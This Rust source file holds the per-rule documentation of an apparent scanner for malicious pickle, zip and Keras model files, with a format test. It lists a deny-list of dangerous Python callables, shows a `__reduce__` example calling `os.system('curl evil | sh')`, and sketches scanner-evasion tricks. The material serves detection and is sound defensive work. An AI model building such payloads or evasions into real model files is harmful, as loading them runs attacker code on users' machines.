//! The documentation of every scanner rule, as `vigil explain MDL00N` prints it.

use super::finding::{Rule, Severity};

impl Rule {
    /// The rule's documentation (Markdown, house style).
    pub fn doc(self) -> &'static str {
        match self {
            Rule::DisallowedImport => DISALLOWED_IMPORT,
            Rule::DangerousImport => DANGEROUS_IMPORT,
            Rule::DynamicImport => DYNAMIC_IMPORT,
            Rule::ArchiveIntegrity => ARCHIVE_INTEGRITY,
            Rule::KerasUnsafe => KERAS_UNSAFE,
            Rule::Inconclusive => INCONCLUSIVE,
            Rule::ManifestMismatch => MANIFEST_MISMATCH,
            Rule::Unsupported => UNSUPPORTED,
            Rule::IndirectCall => INDIRECT_CALL,
        }
    }
}

/// `(code, name, doc, default severity)` of every rule, in code order.
pub fn rule_docs() -> Vec<(&'static str, &'static str, &'static str, Severity)> {
    Rule::ALL
        .iter()
        .map(|r| (r.code(), r.name(), r.doc(), r.default_severity()))
        .collect()
}

const DISALLOWED_IMPORT: &str = "\
## What it checks
Every global a pickle would import (GLOBAL, STACK_GLOBAL, INST) against the allow-list: the \
built-in profiles (`data`, `numpy`, `sklearn`, `torch`) plus the `allow` entries of `[scan]`.

## Why it matters
Unpickling imports and calls whatever the file names. Only an allow-list is safe: deny-lists \
are bypassed by every new gadget (dozens of advisories against deny-list scanners since 2025).

## Example
A pickle that imports `mypkg.models.Net`, with no profile or `allow` entry for it: one finding, \
with the reconstructed call (`mypkg.models.Net.__new__(mypkg.models.Net)`) and its byte offset.

## Configuration
`[scan] profiles = [\"numpy\", \"torch\"]` picks the built-in profiles (default: all four); \
`allow = [\"mypkg.models.Net\", \"mypkg.layers.\"]` adds exact names or, with a trailing dot, \
every name under a package.

## False positives
Your own classes and third-party classes not covered by a profile: add them to `allow` once \
you trust the code they run.
";

const DANGEROUS_IMPORT: &str = "\
## What it checks
Imports on the deny-list: `os`/`posix`/`nt`, `subprocess`, `sys`, `builtins.eval`/`exec`/\
`compile`/`getattr`/`__import__`/`open`, `importlib`, `runpy`, `pickle.loads`, `marshal`, \
`ctypes`, `socket`, `shutil`, `pip`, `torch.load`, `numpy.load`, and the like. Dotted names are \
checked segment by segment, so `pkg.utils.os.system` and `Foo.__reduce__` are caught too.

## Why it matters
These callables run commands, load code or touch files. A model file that imports one is \
almost certainly an attack.

## Example
`__reduce__` returning `(os.system, ('curl evil | sh',))`: finding with the call \
`os.system('curl evil | sh')`.

## Configuration
None. `allow` entries never override the deny-list.

## False positives
Practically none; a pickle of an object that holds a reference to such a function (rare).
";

const DYNAMIC_IMPORT: &str = "\
## What it checks
Imports whose module or name is not known from the file alone: STACK_GLOBAL fed by a call \
result, EXT1/EXT2/EXT4 extension codes (resolved through `copyreg` at load time), names too \
long to keep.

## Why it matters
A name computed at load time can be anything; it is the classic way to hide `os.system` from \
scanners that only look at GLOBAL opcodes.

## Example
`STACK_GLOBAL(getattr(os.sep, 'join')(...), 'system')`: one finding.

## Configuration
None: a dynamic import is never allowed.

## False positives
None known in files written by pickle, joblib, numpy or torch.
";

const ARCHIVE_INTEGRITY: &str = "\
## What it checks
Zip containers (PyTorch, `.npz`, `.keras`, plain zip): CRC-32 and size of every member, \
encryption and unusual general-purpose flag bits, local header names that differ from the \
central directory, duplicate names, overlapping members, entry counts.

## Why it matters
Zip readers disagree on malformed archives: a name that differs between the local header and \
the central directory, or two members with one name, lets one tool see a benign file where \
the loader sees a malicious one. A bad CRC means the file was altered after it was written.

## Example
A PyTorch checkpoint whose `archive/data.pkl` has a CRC that does not match its bytes.

## Configuration
None.

## False positives
Archives written by unusual tools (zip comments, data descriptors and UTF-8 flags are fine).
";

const KERAS_UNSAFE: &str = "\
## What it checks
Keras model configurations (`config.json` in `.keras` files, the `model_config` attribute of \
HDF5 files, standalone JSON configs): every `Lambda` layer at any depth (nested functional and \
sequential models included), serialized Python functions (`__lambda__`, `function_type: \
lambda`), `TFOpLambda` layers, and any `module` or `registered_name` outside Keras.

## Why it matters
A Lambda layer carries Python bytecode that runs when the model is loaded (or first called); \
objects from other modules make Keras import and run that module's code.

## Example
`{\"class_name\": \"Lambda\", \"config\": {\"function\": {\"class_name\": \"__lambda__\", ...}}}` \
inside a nested `Sequential`: a critical finding naming the layer.

## Configuration
Foreign modules can be allowed like pickle globals: `[scan] allow = [\"keras_hub.\"]`. Lambda \
layers cannot be allowed.

## False positives
Models that legitimately use custom layers from your own package: allow that package.
";

const INCONCLUSIVE: &str = "\
## What it checks
Whether the scan of a file or member ran to the end: parse errors (truncated or malformed \
pickles, npy headers, archives), I/O errors, decompression errors and exceeded limits (total \
and decompressed bytes, decompression ratio, nesting depth, member count).

## Why it matters
What comes after the point where the scan stopped was not checked. Such a file is never \
reported clean: a payload followed by a deliberate crash still runs the payload.

## Example
A pickle that calls `os.system` and then ends in the middle of an opcode: the call is reported \
and the file is inconclusive.

## Configuration
The limits are options of the scan (`ScanLimits`).

## False positives
Corrupt or truncated downloads; files larger than the limits.
";

const MANIFEST_MISMATCH: &str = "\
## What it checks
With a manifest (`sha256sum` format): every scanned file's SHA-256 against its line, files \
listed but missing, and files scanned but not listed.

## Why it matters
A scan says what a file would do; only a hash says it is the file you meant to deploy.

## Example
`model.joblib` was replaced after the manifest was written: its hash differs.

## Configuration
`vigil scan --manifest SHA256SUMS`; write one with `vigil manifest FILES... > SHA256SUMS`.

## False positives
A manifest that was not regenerated after a legitimate update.
";

const UNSUPPORTED: &str = "\
## What it checks
Files and archive members in formats the scanner does not read (unknown binary data, text, \
zstd or 7z compression it cannot decode, TorchScript code).

## Why it matters
Nothing was checked, so nothing can be said: an unsupported file is never reported clean.

## Example
A README inside a zip next to a pickle; a GGUF or ONNX file.

## Configuration
None.

## False positives
Harmless data files next to models. The verdict stays \"unsupported\" (exit 3) only when \
nothing worse was found.
";

const INDIRECT_CALL: &str = "\
## What it checks
Calls whose target is not a plain imported global: the result of another call being called, \
and BUILD applied to a class or function itself (which sets attributes on it).

## Why it matters
Pickles written by pickle, numpy, joblib or torch only call globals. Calling a computed value, \
or patching a class during loading, is how allow-listed pieces are chained into gadgets.

## Example
`getattr(obj, 'method')(args)`, or BUILD on `collections.OrderedDict` with a slot state.

## Configuration
None.

## False positives
Hand-written `__reduce__` methods that return bound methods of other objects.
";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn docs_follow_house_style() {
        let docs = rule_docs();
        assert_eq!(docs.len(), Rule::ALL.len());
        for (i, (code, name, doc, _)) in docs.iter().enumerate() {
            assert_eq!(*code, format!("MDL{:03}", i + 1));
            assert!(!name.is_empty());
            let mut at = 0;
            for h in [
                "## What it checks",
                "## Why it matters",
                "## Example",
                "## Configuration",
                "## False positives",
            ] {
                let p = doc[at..].find(h).map(|p| p + at);
                assert!(p.is_some(), "{code}: {h}");
                at = p.unwrap_or(0);
            }
            assert_eq!(Rule::from_code(code).map(Rule::code), Some(*code));
        }
    }
}
